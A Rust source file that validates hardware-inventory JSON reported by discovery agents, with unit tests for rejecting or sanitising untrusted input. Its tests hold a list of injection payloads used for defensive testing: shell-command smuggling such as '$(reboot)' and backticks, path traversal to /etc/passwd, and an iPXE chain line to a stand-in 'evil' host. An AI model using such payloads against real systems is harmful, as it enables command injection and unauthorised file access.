//! Validation of an agent's answer: untrusted bytes in, a [`DiscoveredHost`]
//! out, or a [`Rejection`] naming the field and the (escaped, truncated)
//! offending value.
//!
//! Three layers:
//! 1. Generic, over the raw JSON tree: every string anywhere is at most
//!    [`MAX_STRING_CHARS`] characters and free of control characters (NUL,
//!    newline, ESC...); every array holds at most [`MAX_LIST_LEN`] entries;
//!    `schema_version` equals [`agent::SCHEMA_VERSION`].
//! 2. and 3. The document becomes the domain's typed hardware through its
//!    one conversion, [`HostHardware::from_wire`]: identifier fields (NIC
//!    names, MACs, disk names and paths, UUID, IP addresses, CPU flags,
//!    driver, PCI address, WWN, HCTL...) must match a strict charset and
//!    parse as their typed value, otherwise the host is rejected naming the
//!    field; sizes must be sane; free-text fields (vendor, model, serials,
//!    warnings, LLDP names...) go through the one sanitiser
//!    ([`crate::domain::text::safe_text`]), so `${x}`, `"; reboot` or
//!    backticks can never reach a template or a shell verbatim. The exact
//!    bytes stay in `raw_json` for audit.
//!
//! Identity policy: a placeholder system UUID (all 0, all F, or one that
//! many boards ship, see [`PLACEHOLDER_UUIDS`]) counts as absent, with a
//! warning; the host falls back to its serial, then its MACs. The valid
//! firmware ids go to [`DiscoveredHost::firmware_ids`] so that the store can
//! fall back further when another host shares one.
//!
//! Host name policy: an invalid `hostname` does **not** reject the host (it
//! is only a hint; Harmony assigns names itself). It is dropped (`None`) and
//! a warning `{source: "harmony", message: "hostname dropped: <rule>"}` is
//! added, without the offending value.

use std::net::IpAddr;

use harmony_inventory_agent::model as agent;
use serde_json::Value;

use crate::domain::hardware::{HardwareError, HostHardware};
use crate::domain::inventory::DiscoveredHost;
use crate::domain::values::{HostId, MacAddress};

/// Longest string accepted anywhere in the document, in characters.
pub const MAX_STRING_CHARS: usize = 256;
/// Longest array accepted anywhere in the document (disks, NICs, DIMMs...).
pub const MAX_LIST_LEN: usize = 4096;
/// System UUIDs that firmware ships on many units (the byte patterns AMI
/// and Gigabyte boards leave unset, in both byte orders): never an identity.
/// All-0 and all-F UUIDs are placeholders too.
pub const PLACEHOLDER_UUIDS: &[&str] = &[
    "03000200-0400-0500-0006-000700080009",
    "00020003-0004-0005-0006-000700080009",
];

/// How much of an offending value a [`Rejection`] keeps.
const SHOWN_CHARS: usize = 64;

/// Why a peer's answer was not accepted.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Rejection {
    #[error("invalid JSON: {0}")]
    Json(String),
    #[error("schema_version {found}, expected {expected}")]
    SchemaVersion { found: String, expected: u32 },
    #[error("{field}: {count} entries, at most {max}")]
    TooMany {
        field: String,
        count: usize,
        max: usize,
    },
    #[error("{field} = \"{value}\": {reason}")]
    Invalid {
        field: String,
        /// Escaped (`char::escape_debug`) and truncated copy of the value.
        value: String,
        reason: String,
    },
    #[error("no identity: no valid UUID, serial or MAC address")]
    NoIdentity,
    #[error("HTTP status {0}")]
    Status(u16),
    #[error("response body larger than {0} bytes")]
    TooLarge(usize),
    #[error("no complete answer within {0:?}")]
    Timeout(std::time::Duration),
    #[error("HTTP exchange failed: {0}")]
    Http(String),
}

impl Rejection {
    fn invalid(field: impl Into<String>, value: &str, reason: impl Into<String>) -> Self {
        Rejection::Invalid {
            field: field.into(),
            value: escape(value),
            reason: reason.into(),
        }
    }

    /// The field a value rejection names, if any.
    pub fn field(&self) -> Option<&str> {
        match self {
            Rejection::Invalid { field, .. } | Rejection::TooMany { field, .. } => Some(field),
            _ => None,
        }
    }
}

/// Escaped, truncated copy of an untrusted value, safe to log or display.
pub fn escape(value: &str) -> String {
    let mut out: String = value
        .chars()
        .take(SHOWN_CHARS)
        .flat_map(char::escape_debug)
        .collect();
    if value.chars().nth(SHOWN_CHARS).is_some() {
        out.push_str("...");
    }
    out
}

impl From<HardwareError> for Rejection {
    fn from(e: HardwareError) -> Self {
        Rejection::invalid(e.field, &e.value, e.reason)
    }
}

/// Parses and validates one agent answer served by `ip`.
pub fn validate(ip: IpAddr, raw: &[u8]) -> Result<DiscoveredHost, Rejection> {
    let tree: Value = serde_json::from_slice(raw).map_err(|e| Rejection::Json(e.to_string()))?;
    let Value::Object(map) = &tree else {
        return Err(Rejection::Json("top level is not an object".into()));
    };
    match map.get("schema_version") {
        Some(Value::Number(n)) if n.as_u64() == Some(u64::from(agent::SCHEMA_VERSION)) => {}
        other => {
            // Escaped once: a JSON string is shown by its text, not its JSON.
            let found = match other {
                None => "missing".to_string(),
                Some(Value::String(text)) => escape(text),
                Some(v) => escape(&v.to_string()),
            };
            return Err(Rejection::SchemaVersion {
                found,
                expected: agent::SCHEMA_VERSION,
            });
        }
    }
    check_tree(&tree, &mut String::from("$"))?;
    let mut inv: agent::Inventory =
        serde_json::from_value(tree).map_err(|e| Rejection::Json(e.to_string()))?;
    if let Some(u) = &inv.system.uuid
        && is_placeholder_uuid(u)
    {
        inv.warnings.push(agent::Warning {
            source: "harmony".into(),
            message: format!("system UUID {u} is a placeholder: not an identity"),
        });
        inv.system.uuid = None;
    }
    let hardware = HostHardware::from_wire(&inv)?;
    // The identity comes from the serial as reported: sanitising it for
    // display could make two different serials equal (`A#1`, `A$1`).
    let macs = identity_macs(&hardware);
    let firmware_ids = firmware_ids(&hardware, inv.system.serial.as_deref());
    let id = match firmware_ids.first() {
        Some(id) => id.clone(),
        None => HostId::from_macs(&macs).map_err(|_| Rejection::NoIdentity)?,
    };
    Ok(DiscoveredHost {
        id,
        ip,
        macs,
        firmware_ids,
        hardware,
        raw_json: raw.to_vec(),
    })
}

/// Whether `uuid` is one firmware leaves on every unit: all 0, all F, or
/// one of [`PLACEHOLDER_UUIDS`] (compared by hex digits, any case).
pub fn is_placeholder_uuid(uuid: &str) -> bool {
    let hex = |s: &str| -> String {
        s.chars()
            .filter(|c| *c != '-')
            .map(|c| c.to_ascii_lowercase())
            .collect()
    };
    let h = hex(uuid);
    (!h.is_empty() && (h.bytes().all(|b| b == b'0') || h.bytes().all(|b| b == b'f')))
        || PLACEHOLDER_UUIDS.iter().any(|p| hex(p) == h)
}

/// Layer 1: bounds every string and array of the tree, whatever its field.
fn check_tree(v: &Value, path: &mut String) -> Result<(), Rejection> {
    match v {
        Value::String(s) => check_string(path, s),
        Value::Array(items) => {
            if items.len() > MAX_LIST_LEN {
                return Err(Rejection::TooMany {
                    field: path.clone(),
                    count: items.len(),
                    max: MAX_LIST_LEN,
                });
            }
            for (i, item) in items.iter().enumerate() {
                let len = path.len();
                path.push_str(&format!("[{i}]"));
                check_tree(item, path)?;
                path.truncate(len);
            }
            Ok(())
        }
        Value::Object(map) => {
            if map.len() > MAX_LIST_LEN {
                return Err(Rejection::TooMany {
                    field: path.clone(),
                    count: map.len(),
                    max: MAX_LIST_LEN,
                });
            }
            for (key, item) in map {
                check_string(&format!("{path} (key)"), key)?;
                let len = path.len();
                path.push('.');
                path.push_str(key);
                check_tree(item, path)?;
                path.truncate(len);
            }
            Ok(())
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => Ok(()),
    }
}

fn check_string(field: &str, s: &str) -> Result<(), Rejection> {
    if s.chars().count() > MAX_STRING_CHARS {
        return Err(Rejection::invalid(
            field,
            s,
            format!("longer than {MAX_STRING_CHARS} characters"),
        ));
    }
    if s.chars().any(char::is_control) {
        return Err(Rejection::invalid(field, s, "contains control characters"));
    }
    Ok(())
}

/// Permanent (else current) MACs of the physical NICs; when the host has no
/// physical NIC with a MAC (containers, VMs on veth), those of all NICs.
fn identity_macs(hw: &HostHardware) -> Vec<MacAddress> {
    let pick = |physical_only: bool| -> Vec<MacAddress> {
        let mut v: Vec<MacAddress> = hw
            .nics
            .iter()
            .filter(|n| !physical_only || !n.is_virtual)
            .filter_map(|n| n.identity_mac())
            .collect();
        v.sort();
        v.dedup();
        v
    };
    let physical = pick(true);
    if physical.is_empty() {
        pick(false)
    } else {
        physical
    }
}

/// The valid firmware ids, UUID first, then serial.
fn firmware_ids(hw: &HostHardware, raw_serial: Option<&str>) -> Vec<HostId> {
    let uuid = hw.system.uuid.as_ref().and_then(|u| u.host_id().ok());
    let serial = raw_serial.and_then(|s| HostId::from_serial(s).ok());
    uuid.into_iter().chain(serial).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    const IP: IpAddr = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 10));

    const INJECTIONS: &[&str] = &[
        "\"; reboot",
        "\n#!ipxe",
        "${root}",
        "a\0b",
        "`id`",
        "$(reboot)",
        "../../etc/passwd",
        "eth0\nchain http://evil/",
    ];

    /// A full document with every optional string set.
    pub(crate) fn full_doc() -> Value {
        serde_json::json!({
            "schema_version": agent::SCHEMA_VERSION,
            "agent_version": "0.1.0",
            "collected_at": "2026-11-25T10:00:00Z",
            "hostname": "node-1.example.com",
            "warnings": [{"source": "lldp", "message": "no neighbour on eno2"}],
            "system": {
                "vendor": "Dell Inc.", "product": "PowerEdge R640", "serial": "7XYZ123",
                "uuid": "4c4c4544-0042-3010-8052-b4c04f4a4e32", "family": "PowerEdge",
                "boot_mode": "uefi", "bmc_address": "192.0.2.200", "hypervisor": "kvm"
            },
            "cpu": {"model": "Intel(R) Xeon(R) Gold 6130", "vendor": "GenuineIntel",
                    "sockets": 2, "cores": 32, "threads": 64, "mhz": 2100.0,
                    "flags": ["vmx", "aes", "avx2"]},
            "memory": {"total_bytes": 68719476736u64, "smbios_total_bytes": 68719476736u64,
                "dimms": [{"locator": "A1", "bank": "Bank 0", "size_bytes": 17179869184u64,
                  "type": "DDR4", "speed_mts": 2666, "manufacturer": "Samsung",
                  "serial": "12345678", "part_number": "M393A2K43BB1-CTD"}]},
            "storage": [{"name": "nvme0n1", "path": "/dev/nvme0n1",
                "by_path": "/dev/disk/by-path/pci-0000:3b:00.0-nvme-1",
                "by_id": "/dev/disk/by-id/nvme-eui.0025385b71b0a1b2",
                "model": "Samsung SSD 970", "vendor": "Samsung", "serial": "S4EWNX0R1",
                "wwn": "eui.0025385b71b0a1b2", "size_bytes": 1000204886016u64,
                "logical_sector_bytes": 512, "physical_sector_bytes": 512,
                "rotational": false, "removable": false, "kind": "nvme",
                "transport": "nvme", "hctl": "0:0:0:0"}],
            "network": [{"name": "eno1", "mac": "52:54:00:aa:bb:01",
                "permanent_mac": "52:54:00:aa:bb:01", "speed_mbps": 10000, "carrier": true,
                "operstate": "up", "mtu": 1500, "driver": "i40e", "pci_address": "0000:3b:00.0",
                "is_virtual": false, "master": "bond0", "ipv4": ["192.0.2.10/24"],
                "ipv6": ["fe80::1/64"],
                "lldp": {"chassis_id": "00:11:22:33:44:55", "port_id": "Ethernet1/1",
                         "system_name": "leaf-1", "port_description": "uplink"}}]
        })
    }

    fn doc_bytes(v: &Value) -> Vec<u8> {
        serde_json::to_vec(v).unwrap()
    }

    /// JSON pointers of every string leaf.
    fn string_pointers(v: &Value, at: String, out: &mut Vec<String>) {
        match v {
            Value::String(_) => out.push(at),
            Value::Array(a) => {
                for (i, x) in a.iter().enumerate() {
                    string_pointers(x, format!("{at}/{i}"), out);
                }
            }
            Value::Object(m) => {
                for (k, x) in m {
                    string_pointers(x, format!("{at}/{k}"), out);
                }
            }
            _ => {}
        }
    }

    #[test]
    fn accepts_a_good_document() {
        let h = validate(IP, &doc_bytes(&full_doc())).unwrap();
        assert_eq!(h.id.as_str(), "uuid:4c4c4544-0042-3010-8052-b4c04f4a4e32");
        assert_eq!(h.macs, vec!["52:54:00:aa:bb:01".parse().unwrap()]);
        assert_eq!(
            h.hardware.hostname.as_ref().map(|n| n.as_str()),
            Some("node-1.example.com")
        );
        assert_eq!(
            h.hardware.cpu.model.as_ref().map(|m| m.as_str()),
            Some("Intel(R) Xeon(R) Gold 6130")
        );
        assert_eq!(h.ip, IP);
    }

    #[test]
    fn identity_falls_back_uuid_serial_macs() {
        let mut d = full_doc();
        d["system"]["uuid"] = Value::Null;
        assert_eq!(
            validate(IP, &doc_bytes(&d)).unwrap().id.as_str(),
            "serial:7XYZ123"
        );
        d["system"]["serial"] = "To Be Filled By O.E.M.".into();
        let mut nic2 = d["network"][0].clone();
        nic2["name"] = "eno2".into();
        nic2["mac"] = "52:54:00:aa:bb:00".into();
        nic2["permanent_mac"] = Value::Null;
        d["network"].as_array_mut().unwrap().push(nic2);
        assert_eq!(
            validate(IP, &doc_bytes(&d)).unwrap().id.as_str(),
            "macs:52:54:00:aa:bb:00,52:54:00:aa:bb:01"
        );
        d["network"] = serde_json::json!([]);
        assert_eq!(
            validate(IP, &doc_bytes(&d)).unwrap_err(),
            Rejection::NoIdentity
        );
    }

    /// Serials that only differ in characters the display form neutralises
    /// never become one identity: they are not identities at all.
    #[test]
    fn odd_serials_do_not_merge_identities() {
        let mut d = full_doc();
        d["system"]["uuid"] = Value::Null;
        d["system"]["serial"] = "A#1".into();
        let a = validate(IP, &doc_bytes(&d)).unwrap();
        d["system"]["serial"] = "A$1".into();
        d["network"][0]["mac"] = "52:54:00:aa:bb:02".into();
        d["network"][0]["permanent_mac"] = "52:54:00:aa:bb:02".into();
        let b = validate(IP, &doc_bytes(&d)).unwrap();
        assert_ne!(a.id, b.id);
        assert!(a.id.as_str().starts_with("macs:"), "{}", a.id);
    }

    #[test]
    fn rejects_bad_json_and_schema() {
        assert!(matches!(
            validate(IP, b"{not json"),
            Err(Rejection::Json(_))
        ));
        assert!(matches!(validate(IP, b"[1,2]"), Err(Rejection::Json(_))));
        let mut d = full_doc();
        d["schema_version"] = 2.into();
        assert!(matches!(
            validate(IP, &doc_bytes(&d)),
            Err(Rejection::SchemaVersion { found, .. }) if found == "2"
        ));
        d.as_object_mut().unwrap().remove("schema_version");
        assert!(matches!(
            validate(IP, &doc_bytes(&d)),
            Err(Rejection::SchemaVersion { .. })
        ));
        let mut d = full_doc();
        d["storage"] = Value::Null;
        assert!(matches!(
            validate(IP, &doc_bytes(&d)),
            Err(Rejection::Json(_))
        ));
    }

    #[test]
    fn caps_list_lengths_and_sizes() {
        let mut d = full_doc();
        let nic = d["network"][0].clone();
        d["network"] = Value::Array(vec![nic; MAX_LIST_LEN + 1]);
        let e = validate(IP, &doc_bytes(&d)).unwrap_err();
        assert_eq!(e.field(), Some("$.network"), "{e}");
        let mut d = full_doc();
        d["storage"][0]["size_bytes"] = serde_json::json!(u64::MAX);
        assert_eq!(
            validate(IP, &doc_bytes(&d)).unwrap_err().field(),
            Some("storage[0].size_bytes")
        );
        let mut d = full_doc();
        d["storage"][0]["logical_sector_bytes"] = 3.into();
        assert!(validate(IP, &doc_bytes(&d)).is_err());
        let mut d = full_doc();
        d["memory"]["dimms"][0]["size_bytes"] = serde_json::json!(u64::MAX);
        assert!(validate(IP, &doc_bytes(&d)).is_err());
    }

    /// Every string field, every injection: either the host is rejected, or
    /// no dangerous character survives anywhere in the accepted document.
    #[test]
    fn injection_in_every_string_field_is_rejected_or_neutralised() {
        let base = full_doc();
        let mut pointers = Vec::new();
        string_pointers(&base, String::new(), &mut pointers);
        assert!(pointers.len() > 40, "{}", pointers.len());
        let long = "x".repeat(300);
        let mut payloads: Vec<&str> = INJECTIONS.to_vec();
        payloads.push(&long);
        for ptr in &pointers {
            for bad in &payloads {
                let mut d = base.clone();
                *d.pointer_mut(ptr).unwrap() = Value::String((*bad).to_string());
                match validate(IP, &doc_bytes(&d)) {
                    Err(e) => {
                        let shown = e.to_string();
                        assert!(!shown.contains('\n') && !shown.contains('\0'), "{shown}");
                        assert!(shown.len() < 400, "{ptr}: {shown}");
                    }
                    Ok(h) => {
                        let v = serde_json::to_value(h.hardware.to_wire()).unwrap();
                        let mut leaves = Vec::new();
                        string_pointers(&v, String::new(), &mut leaves);
                        for l in &leaves {
                            let s = v.pointer(l).unwrap().as_str().unwrap();
                            for c in ['$', ';', '`', '"', '\\', '\n', '\0', '{', '}', '#'] {
                                assert!(!s.contains(c), "{ptr} <- {bad:?}: {l} = {s:?}");
                            }
                            assert!(s.chars().count() <= MAX_STRING_CHARS);
                        }
                    }
                }
            }
        }
    }

    #[test]
    fn identifier_fields_reject_injections() {
        let fields = [
            ("/network/0/name", "network[0].name"),
            ("/network/0/mac", "network[0].mac"),
            ("/network/0/permanent_mac", "network[0].permanent_mac"),
            ("/network/0/master", "network[0].master"),
            ("/network/0/driver", "network[0].driver"),
            ("/network/0/operstate", "network[0].operstate"),
            ("/network/0/pci_address", "network[0].pci_address"),
            ("/network/0/ipv4/0", "network[0].ipv4/ipv6[0]"),
            ("/storage/0/name", "storage[0].name"),
            ("/storage/0/path", "storage[0].path"),
            ("/storage/0/wwn", "storage[0].wwn"),
            ("/storage/0/transport", "storage[0].transport"),
            ("/storage/0/hctl", "storage[0].hctl"),
            ("/system/uuid", "system.uuid"),
            ("/system/bmc_address", "system.bmc_address"),
            ("/cpu/flags/0", "cpu.flags[0]"),
        ];
        for (ptr, field) in fields {
            for bad in ["\"; reboot", "${root}", "x y", "../x", "a/b;c"] {
                let mut d = full_doc();
                *d.pointer_mut(ptr).unwrap() = bad.into();
                let e = validate(IP, &doc_bytes(&d)).unwrap_err();
                assert_eq!(e.field(), Some(field), "{ptr} <- {bad:?}: {e}");
            }
        }
        // Control characters are caught before, with the JSON path.
        let mut d = full_doc();
        d["network"][0]["name"] = "eth0\n#!ipxe".into();
        let e = validate(IP, &doc_bytes(&d)).unwrap_err();
        assert_eq!(e.field(), Some("$.network[0].name"));
        assert!(e.to_string().contains("eth0\\n#!ipxe"), "escaped: {e}");
        // A disk link Harmony cannot use is dropped, never kept, and the
        // host stays (udev allows link names Harmony does not).
        for (ptr, bad) in [
            ("/storage/0/by_id", "\"; reboot"),
            ("/storage/0/by_id", "/dev/disk/by-id/../../sda"),
            ("/storage/0/by_id", "/dev/disk/by-id/ata-X#1"),
            ("/storage/0/by_path", "/dev/disk/by-id/x"),
        ] {
            let mut d = full_doc();
            *d.pointer_mut(ptr).unwrap() = bad.into();
            let h = validate(IP, &doc_bytes(&d)).unwrap();
            let disk = &h.hardware.disks[0];
            let kept = if ptr.ends_with("by_id") {
                &disk.by_id
            } else {
                &disk.by_path
            };
            assert_eq!(kept, &None, "{ptr} <- {bad}");
            let w = h.hardware.warnings.last().unwrap();
            // Warnings are free text like the agent's: through the one
            // sanitiser (`[0]` shows as `_0_`).
            assert!(
                w.message
                    .as_str()
                    .starts_with("disk link dropped: storage_0_."),
                "{}",
                w.message
            );
            assert!(
                !w.message.as_str().contains(bad),
                "the value stays out: {}",
                w.message
            );
        }
        // Paths outside their directory.
        for (ptr, bad) in [
            ("/storage/0/path", "/etc/passwd"),
            ("/storage/0/path", "/dev/../etc"),
        ] {
            let mut d = full_doc();
            *d.pointer_mut(ptr).unwrap() = bad.into();
            assert!(validate(IP, &doc_bytes(&d)).is_err(), "{ptr} <- {bad}");
        }
    }

    #[test]
    fn bad_hostname_is_dropped_with_a_warning() {
        for bad in ["\"; reboot", "${x}", "a_b", "-x", &"h".repeat(64)] {
            let mut d = full_doc();
            d["hostname"] = bad.into();
            let h = validate(IP, &doc_bytes(&d)).unwrap();
            assert_eq!(h.hardware.hostname, None, "{bad}");
            let w = h.hardware.warnings.last().unwrap();
            assert_eq!(w.source.as_str(), "harmony");
            assert!(w.message.as_str().starts_with("hostname dropped"));
            assert!(!w.message.as_str().contains(bad));
        }
    }

    #[test]
    fn free_text_is_neutralised() {
        let mut d = full_doc();
        d["system"]["vendor"] = "${root} \"; reboot `id`".into();
        let h = validate(IP, &doc_bytes(&d)).unwrap();
        assert_eq!(
            h.hardware.system.vendor.as_ref().map(|v| v.as_str()),
            Some("__root_ __ reboot _id_")
        );
        // The raw bytes are kept verbatim for audit.
        assert_eq!(h.raw_json, doc_bytes(&d));
    }

    /// All-0, all-F and well-known shipped UUIDs are no identity: the host
    /// is kept, identified by its serial (else its MACs), with a warning.
    #[test]
    fn placeholder_uuids_count_as_absent() {
        for placeholder in [
            "00000000-0000-0000-0000-000000000000",
            "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
            "03000200-0400-0500-0006-000700080009",
            "00020003-0004-0005-0006-000700080009",
        ] {
            let mut d = full_doc();
            d["system"]["uuid"] = placeholder.into();
            let h = validate(IP, &doc_bytes(&d)).unwrap();
            assert_eq!(h.id.as_str(), "serial:7XYZ123", "{placeholder}");
            assert_eq!(h.firmware_ids, vec![h.id.clone()]);
            assert_eq!(h.hardware.system.uuid, None);
            let w = h.hardware.warnings.last().unwrap();
            assert!(w.message.as_str().contains("placeholder"), "{}", w.message);
            d["system"]["serial"] = Value::Null;
            let h = validate(IP, &doc_bytes(&d)).unwrap();
            assert!(h.id.as_str().starts_with("macs:"), "{}", h.id);
            assert!(h.firmware_ids.is_empty());
        }
        let h = validate(IP, &doc_bytes(&full_doc())).unwrap();
        assert_eq!(
            h.firmware_ids
                .iter()
                .map(HostId::as_str)
                .collect::<Vec<_>>(),
            [
                "uuid:4c4c4544-0042-3010-8052-b4c04f4a4e32",
                "serial:7XYZ123"
            ]
        );
    }

    /// A rejection shows the offending value escaped once: `a\0b` for a
    /// NUL, `\"` for a quote, never JSON-escaped then escaped again.
    #[test]
    fn rejection_values_are_escaped_once() {
        let mut d = full_doc();
        d["network"][0]["name"] = "a\0b".into();
        let shown = validate(IP, &doc_bytes(&d)).unwrap_err().to_string();
        assert!(
            shown.starts_with("$.network[0].name = \"a\\0b\": "),
            "{shown}"
        );
        let mut d = full_doc();
        d["cpu"]["model"] = "a\0b".into();
        let shown = validate(IP, &doc_bytes(&d)).unwrap_err().to_string();
        assert!(shown.starts_with("$.cpu.model = \"a\\0b\": "), "{shown}");
        let mut d = full_doc();
        d["schema_version"] = "a\0b".into();
        let shown = validate(IP, &doc_bytes(&d)).unwrap_err().to_string();
        assert_eq!(shown, "schema_version a\\0b, expected 1");
        let mut d = full_doc();
        d["schema_version"] = "\"x\"".into();
        let shown = validate(IP, &doc_bytes(&d)).unwrap_err().to_string();
        assert_eq!(shown, "schema_version \\\"x\\\", expected 1");
    }

    #[test]
    fn zero_mac_is_dropped_not_fatal() {
        let mut d = full_doc();
        d["network"][0]["permanent_mac"] = "00:00:00:00:00:00".into();
        let h = validate(IP, &doc_bytes(&d)).unwrap();
        assert_eq!(h.hardware.nics[0].permanent_mac, None);
        assert_eq!(h.macs, vec!["52:54:00:aa:bb:01".parse().unwrap()]);
    }
}
